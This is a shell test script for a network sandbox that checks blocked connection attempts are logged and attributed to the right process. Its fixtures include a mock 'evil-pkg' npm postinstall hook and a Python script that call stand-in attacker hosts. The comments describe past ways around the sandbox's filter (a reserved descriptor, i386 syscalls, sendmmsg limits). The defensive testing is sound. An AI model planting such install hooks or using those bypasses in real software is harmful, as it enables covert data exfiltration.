#!/bin/bash
# attribution.sh — every attempt is seen, and by whom (--log, the denial
# lines, the exit summary): a hostile npm package's postinstall, installed
# from a local tarball, tries DNS, a served port and an unserved one on raw
# addresses, UDP to a port that is not DNS, a raw socket, from its own
# process, a worker thread and a grandchild; each attempt must be in the log
# with the process that made it (pid as the sandbox sees it, executable,
# arguments, the package and its script) and said on stderr, and the
# summary's counts must be the log's.  A plain python3 run checks pid, argv
# and a thread's connection without npm.
# Run as root (meson test --suite net); NETBOX is the binary under test.
. "$(dirname "$0")/../lib.sh"
. "$(dirname "$0")/../lab/lab.sh"

lib_user_up
lab_up

nbx() { cap hx "$NB" "$@"; }

# run_checks LOG CHECKS... — tests/logchecks.py over LOG (tests/lib.sh).
run_checks() { lib_log_checks "" "$@"; }

# --- a plain program: pid, argv, a thread -------------------------------------------
cat >"$NB_WORK/try.py" <<'EOF'
import os, socket, sys, threading
print("pid", os.getpid(), flush=True)
def attempt(f):
    try:
        f()
    except OSError as e:
        print(type(e).__name__, flush=True)
attempt(lambda: socket.getaddrinfo("attacker.example", 443))
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
attempt(lambda: u.sendto(b"secret", ("198.51.100.30", 9999)))
attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
t = threading.Thread(target=attempt, args=(lambda: socket.create_connection(("198.51.100.31", 443), timeout=5),))
t.start()
t.join()
EOF
chmod 644 "$NB_WORK/try.py"
LOG=$(lib_log plain)
nbx --log "$LOG" "$PY" try.py --marker
t_is "$RC" 0 "python3 under netbox --log: exit 0"
t_like "$OUT" "PermissionError" "... its UDP send to a port that is not DNS fails visibly (EPERM)"
PID=$(sed -n 's/^pid //p' <<<"$OUT")
t_like "$PID" '^[0-9]+$' "... it printed its pid"
run_checks "$LOG" \
	"a start record names the command and attribution on|ev('start')[0]['attribution'] is True and ev('start')[0]['command'][-1] == '--marker'" \
	"DNS attacker.example: denied, by the python3 process (pid $PID, argv)|ev('dns', name='attacker.example') and all(l['proc']['pid'] == $PID and l['proc']['argv'][1:] == ['try.py', '--marker'] and exe(l).startswith('python3') and l['proc']['package'] is None for l in ev('dns', name='attacker.example'))" \
	"UDP 198.51.100.30:9999: denied, protocol udp, by pid $PID|[(l['ip'], l['port'], l['proc']['pid']) for l in ev('connection', protocol='udp')] == [('198.51.100.30', 9999, $PID)]" \
	"raw socket: denied with EPERM, by pid $PID|[(l['type'], l['protocol'], l['error'], l['proc']['pid']) for l in ev('socket')] == [('raw', 1, 'EPERM', $PID)]" \
	"198.51.100.31:443 from a thread: denied, attributed to its process (pid $PID)|[(l['verdict'], l['proc']['pid']) for l in ev('connection', ip='198.51.100.31')] == [('deny', $PID)]" \
	"the end record's counts are the log's|ev('end')[0]['dns_denied'] == len(ev('dns', verdict='deny')) and ev('end')[0]['connections_denied'] == len(ev('connection', verdict='deny')) and ev('end')[0]['sockets_denied'] == len(ev('socket'))"
for what in "DNS attacker.example" "UDP 198.51.100.30:9999" "raw socket (inet, protocol 1)" "198.51.100.31:443"; do
	t_like "$ERR" "^netbox: denied $(sed 's/[().]/\\&/g' <<<"$what")( \(.*\))? by python3" "stderr: denied $what, by python3"
done
# The summary's table counts what the log holds: per destination, its dns
# and connection columns against the records.
printf '%s\n' "$ERR" >"$NB_TMP/summary.txt"
SUMCHECK=$("$PY" - "$LOG" "$NB_TMP/summary.txt" <<'EOF'
import json, re, sys
recs = [json.loads(l) for l in open(sys.argv[1])]
rows = {}
for line in open(sys.argv[2]):
    m = re.match(r"^  (allowed|denied|partly)\s+(.+?)\s{2,}(\S+)\s+(\d+)\s+(\d+)\s", line)
    if m:
        rows[m.group(2)] = (int(m.group(4)), int(m.group(5)))
want = {
    "attacker.example": (sum(r["event"] == "dns" and r["name"] == "attacker.example" for r in recs), 0),
    "UDP 198.51.100.30": (0, sum(r["event"] == "connection" and r["protocol"] == "udp" for r in recs)),
    "198.51.100.31": (0, sum(r["event"] == "connection" and r.get("ip") == "198.51.100.31" for r in recs)),
}
bad = [(k, rows.get(k), v) for k, v in want.items() if rows.get(k) != v]
print("ok" if not bad and all(v != (0, 0) for v in want.values()) else "mismatch %r rows %r" % (bad, rows))
EOF
)
t_is "$SUMCHECK" ok "the summary's dns and connection counts are the log's, destination by destination"
t_like "$ERR" "refused, by program:" "the summary groups refusals by program"
t_like "$ERR" "  python3[.0-9]*: denied DNS attacker\.example, denied UDP 198\.51\.100\.30:9999, denied raw socket" "... python3's, in the order they happened"

# Without --log attribution is off (nothing is paid for it), every attempt
# is still said.
nbx "$PY" try.py
t_like "$ERR" "^netbox: denied UDP 198\.51\.100\.30:9999" "without --log: the UDP attempt is still said"
t_unlike "$ERR" " by python3" "without --log: no process named (attribution is off)"
nbx --attribute=on "$PY" try.py
t_like "$ERR" "^netbox: denied DNS attacker\.example by python3" "--attribute=on without --log: processes named"

# --- the supervisor keeps none of the program's sockets ------------------------------
# A TCP socket with SO_LINGER whose peer does not read makes its last close()
# wait; a duplicate the supervisor kept was that last reference once the
# program closed its own — with the peer parked in the supervisor too (in
# flight in a unix socket the supervisor also kept, given to it by a connect()
# with an IPv4 address), the supervisor's close at exit waited forever and
# netbox never returned.  Now it must end with the program.
cat >"$NB_WORK/linger.py" <<'EOF'
import array, ctypes, socket, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
L = socket.socket(); L.bind(("127.0.0.1", 0)); L.listen(1)
S = socket.socket()
S.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0x7fffffff))
S.connect(L.getsockname())
A, _ = L.accept()
S.setblocking(False)
try:
    while True:
        S.send(b"x" * 65536)
except BlockingIOError:
    pass
U1, U2 = socket.socketpair()
U1.sendmsg([b"a"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [A.fileno()]))])
sa = struct.pack("=H", socket.AF_INET) + struct.pack("!H", 9) + socket.inet_aton("192.0.2.1") + b"\0" * 8
libc.connect(U2.fileno(), sa, len(sa))
for s in (A, U1, U2, S):
    s.close()
if sys.argv[1:] == ["lookup"]:
    c = socket.socket()
    c.connect_ex(("198.51.100.40", 4444))
print("linger done", flush=True)
EOF
chmod 644 "$NB_WORK/linger.py"
for how in exit lookup; do
	cap hx timeout 30 "$NB" --log "$(lib_log "linger-$how")" "$PY" linger.py $how
	t_is "$RC:$OUT" "0:linger done" \
		"a lingering socket whose peer never reads ($how): netbox returns with the program (not stuck closing it)"
done

# --- no way around the notifications: descriptor 900, the i386 ABI ------------------
# The filter let sendmsg() on descriptor 900 through (the number its own
# handover used), and asked nothing of int $0x80 calls: a socket moved there,
# or a 32-bit call, sent unseen — no EPERM, no process in the log, and a
# stale record of another process's socket on the same port could be
# credited instead.  A sendmmsg() was looked at for 16 messages only: the
# 20th went anywhere; an address of family AF_UNSPEC (IPv4 UDP reads it as
# AF_INET) was not read at all.
lib_probe PROBE sysprobe
if [ -z "$PROBE" ]; then
	t_skip "sends through descriptor 900 and the i386 ABI" "no C compiler"
else
	n=40
	for p in udpsend-fd900 udpsend-unspec udpsend-mmsg20 udpsend-i386 udpsend-sendmsg-i386 udpsend-socketcall-i386 tcpconnect-i386; do
		n=$((n + 1))
		if [ "$(as_user "$PROBE" "$p" 127.0.0.1 9 2>&1)" = "$p err ENOSYS" ]; then
			t_skip "$p" "the kernel has no i386 ABI"
			continue
		fi
		LOG=$(lib_log "probe-$p")
		cap hx "$NB" --log "$LOG" "$PROBE" "$p" "198.51.100.$n" 7777
		case $p in
		tcp*) t_is "$OUT" "$p err ECONNREFUSED" "$p to a port no rule names: refused" ;;
		*) t_is "$OUT" "$p err EPERM" "$p to a port that is not DNS: fails visibly (EPERM), as through libc" ;;
		esac
		run_checks "$LOG" \
			"$p: one record, by the probe's process|[(l['port'], exe(l)) for l in ev('connection', ip='198.51.100.$n')] == [(7777, 'sysprobe')]"
	done
fi

# --- a hostile npm package's postinstall ----------------------------------------------
PKG=$NB_WORK/evil-pkg
mkdir -p "$PKG" "$NB_WORK/app"
cat >"$PKG/package.json" <<'EOF'
{ "name": "evil-pkg", "version": "1.0.0", "scripts": { "postinstall": "node attack.js" } }
EOF
cat >"$PKG/attack.js" <<'EOF'
const dns = require("dns"), net = require("net"), dgram = require("dgram");
const { execFileSync } = require("child_process");
const { Worker } = require("worker_threads");
console.log("node pid " + process.pid);
const tcp = (host, port) => new Promise((ok) => {
  const s = net.connect({ host, port }); s.on("error", () => ok()); s.on("connect", () => { s.destroy(); ok(); });
});
(async () => {
  await new Promise((ok) => dns.lookup("exfil.attacker.example", () => ok()));
  await tcp("198.51.100.30", 4444);
  await new Promise((ok) => { const u = dgram.createSocket("udp4"); u.send("k", 9999, "198.51.100.30", (e) => { console.log("udp " + (e ? e.code : "sent")); u.close(); ok(); }); });
  await new Promise((ok) => { const w = new Worker("require('net').connect({host:'198.51.100.32',port:80}).on('error',()=>{}).on('close',()=>process.exit(0))", { eval: true }); w.on("exit", ok); });
  try { execFileSync("sh", ["-c", "exec python3 -c 'import socket; socket.create_connection((\"198.51.100.33\", 443), timeout=5)'"], { stdio: "ignore" }); } catch (e) {}
})();
EOF
chown -R "$NB_UID:$NB_GID" "$PKG" "$NB_WORK/app"
as_user sh -c 'cd evil-pkg && npm pack --silent --offline' >/dev/null 2>&1
if [ ! -f "$PKG/evil-pkg-1.0.0.tgz" ]; then
	t_skip "npm lifecycle attribution" "npm pack failed here"
else
	LOG=$(lib_log npm)
	nbx --log "$LOG" --rw "$NB_WORK/app" sh -c 'cd app && exec npm install --offline --no-audit --no-fund --foreground-scripts ../evil-pkg/evil-pkg-1.0.0.tgz'
	t_is "$RC" 0 "npm install of the local package under netbox: exit 0 (its attempts fail, not the install)"
	NODEPID=$(sed -n 's/^node pid //p' <<<"$OUT$ERR" | head -1)
	t_like "$NODEPID" '^[0-9]+$' "... the postinstall printed its pid"
	t_like "$OUT$ERR" "udp EPERM" "... its UDP send failed visibly (EPERM)"
	run_checks "$LOG" \
		"DNS exfil.attacker.example: by node, postinstall of evil-pkg@1.0.0|ev('dns', name='exfil.attacker.example') and all(exe(l) == 'node' and l['proc']['pid'] == ${NODEPID:-0} and l['proc']['package'] == {'name': 'evil-pkg', 'version': '1.0.0', 'script': 'postinstall'} and l['proc']['argv'] == ['node', 'attack.js'] for l in ev('dns', name='exfil.attacker.example'))" \
		"UDP 198.51.100.30:9999: by the postinstall|[(pkg(l), l['proc']['pid']) for l in ev('connection', protocol='udp')] == [('evil-pkg', ${NODEPID:-0})]" \
		"198.51.100.30:4444 (no listener): refused, by the postinstall|[(l['protocol'], l['verdict'], pkg(l)) for l in ev('connection', ip='198.51.100.30', port=4444)] == [('tcp', 'deny', 'evil-pkg')]" \
		"198.51.100.32:80 from a worker thread: by the node process|[(pkg(l), l['proc']['pid']) for l in ev('connection', ip='198.51.100.32')] == [('evil-pkg', ${NODEPID:-0})]" \
		"198.51.100.33:443 from a grandchild: by python3, still in the package's script|[(exe(l).startswith('python3'), pkg(l), l['proc']['pid'] != ${NODEPID:-0}) for l in ev('connection', ip='198.51.100.33')] == [(True, 'evil-pkg', True)]"
	t_like "$ERR" "^  node \(postinstall of evil-pkg@1\.0\.0\): denied DNS exfil\.attacker\.example, " \
		"the summary: node (postinstall of evil-pkg@1.0.0): denied DNS exfil.attacker.example, ..."
	t_like "$ERR" "^  python3[.0-9]* \(postinstall of evil-pkg@1\.0\.0\): denied 198\.51\.100\.33:443" \
		"the summary: the grandchild's refusal under its own program, same package"
	t_like "$ERR" "^netbox: denied DNS exfil\.attacker\.example by node \(postinstall of evil-pkg@1\.0\.0\)" \
		"stderr: the denial line names the package"
fi

t_done
